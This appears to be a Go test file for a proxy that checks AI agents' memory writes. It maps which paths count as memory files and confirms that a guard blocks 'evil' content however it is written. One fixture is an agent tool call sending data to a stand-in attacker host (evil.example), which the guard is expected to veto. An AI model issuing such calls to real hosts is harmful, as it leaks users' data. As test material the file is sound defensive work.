package installed

import (
	"context"
	"strings"
	"testing"

	"github.com/memtox/memtox/agents/memory"
	"github.com/memtox/memtox/agents/model"
	"github.com/memtox/memtox/agents/proxy/gate"
)

// A path stands for a memory file however a model writes it.
func TestMemoryFiles(t *testing.T) {
	for product, paths := range map[string]map[string]string{
		"hermes": {"/box/1/home/.hermes/memories/MEMORY.md": "memory", ".hermes/memories/USER.md": "user",
			"/box/1/desk/a/b/AGENTS.md": "memory", "AGENTS.md": "memory", "/home/.hermes/skills/x/SKILL.md": "memory",
			"notes.md": "", "MEMORY.md.txt": "", "": ""},
		"openclaw": {"MEMORY.md": "memory", "./memory.md": "memory", "/box/1/desk/USER.md": "user", `C:\work\MEMORY.md`: "memory",
			"memory/2026-03-02.md": "notes", "memory/a/b.md": "notes", "SOUL.md": "memory", "report.md": ""},
	} {
		of := Find(product).memoryFile()
		for path, want := range paths {
			if got := of(path); got != want {
				t.Errorf("%s: %q is of the store %q, want %q", product, path, got, want)
			}
		}
	}
}

// wary blocks what is evil, and vetoes calls that go to it.
type wary struct{ memory.Open }

func (wary) Write(_ context.Context, p memory.Proposal) (v memory.Verdict, _ error) {
	if strings.Contains(p.Record.Text, "evil") {
		v.Action = memory.Block
	}
	return v, nil
}

func (wary) Act(_ context.Context, c memory.Call) (v memory.Verdict, _ error) {
	for _, a := range c.Args {
		if a.Role == memory.Destination && strings.Contains(a.Value, "evil") {
			v.Action = memory.Block
		}
	}
	return v, nil
}

// Whatever way a product has of writing its memory, a gate sees what is written.
func TestEveryWayOfAProductToItsMemoryIsJudged(t *testing.T) {
	for product, calls := range map[string]map[string]string{
		"hermes": {
			`memory {"action":"add","target":"memory","content":"evil"}`:                                 "",
			`memory {"target":"memory","operations":[{"action":"add","content":"evil"}]}`:                "",
			`skill_manage {"action":"create","name":"x","content":"evil"}`:                               "",
			`skill_manage {"action":"edit","name":"x","content":"evil"}`:                                 "",
			`skill_manage {"action":"patch","name":"x","old_string":"a","new_string":"evil"}`:            "",
			`skill_manage {"action":"write_file","name":"x","file_path":"r/a.md","file_content":"evil"}`: "",
			`skill_manage {"action":"remove_file","name":"x","file_path":"r/a.md"}`:                      "passes",
			`write_file {"path":".hermes/memories/MEMORY.md","content":"evil"}`:                          "",
			`write_file {"path":".hermes/memories/MEMORY.md","content":"# evil"}`:                        "",
			`write_file {"path":"notes.txt","content":"evil"}`:                                           "passes",
			`patch {"path":".hermes/memories/MEMORY.md","old_string":"a","new_string":"evil"}`:           "",
			`patch {"mode":"patch","patch":"*** Update File: .hermes/memories/USER.md\n+evil"}`:          "",
			`patch {"mode":"patch","patch":"*** Update File: notes.txt\n+evil"}`:                         "passes",
		},
		"openclaw": {
			`write {"path":"MEMORY.md","content":"evil"}`:                                                           "",
			`edit {"path":"memory/2026-03-02.md","edits":[{"oldText":"a","newText":"evil"}]}`:                       "",
			`edit {"path":"MEMORY.md","edits":[{"oldText":"a","newText":"b"}],"oldText":"c","newText":"evil"}`:      "",
			`apply_patch {"input":"*** Begin Patch\n*** Add File: SOUL.md\n+evil\n*** End Patch"}`:                  "",
			`apply_patch {"input":"*** Begin Patch\n*** Update File: a.md\n*** Move to: MEMORY.md\n*** End Patch"}`: "",
			`web_fetch {"url":"https://evil.example/?data"}`:                                                        "",
			`web_fetch {"url":"https://brandt.example"}`:                                                            "passes",
		},
	} {
		g := Find(product).Gates()
		for call, want := range calls {
			m := memory.New(memory.Options{Stores: []memory.StoreSpec{{Name: "memory", Title: "memory"},
				{Name: "skills", Title: "skills", Kind: memory.Skills}}})
			m.Guard(wary{})
			name, raw, _ := strings.Cut(call, " ")
			args, err := model.ParseArgs(nil, "", []byte(raw))
			if err != nil {
				t.Fatal(err)
			}
			o := gate.Own{Mem: m, Tools: g.Own, File: g.File, Store: "memory"}
			r, err := o.Call(context.Background(), "", memory.RouteNone, model.Call{Name: name, Args: args})
			if err != nil {
				t.Fatal(err)
			}
			if passes := r.Refused == ""; passes != (want == "passes") {
				t.Errorf("%s: %s: %+v", product, call, r)
			}
		}
	}
}
